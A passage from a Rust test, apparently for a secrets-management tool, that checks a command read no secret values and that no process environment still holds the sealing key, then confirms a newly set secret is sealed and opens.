    .filter(|(_, value)| seen.contains(value))
    .map(|(what, _)| what)
    .collect();
    assert!(read.is_empty(), "the command read {read:?}:\n{seen}");
    // Nor does any process's environment hold the sealing key: the brain took it out of its
    // own (read here as root, which may).
    assert_eq!(
        environs_holding(sealing_key.as_bytes()),
        Vec::<String>::new()
    );
    // And the brain still has it: a secret set now is sealed and opens.
    set_secret(
        &c,
        "after",
        "value-after",
        &["--host", "example.com", "--env", "AFTER"],
    );
}
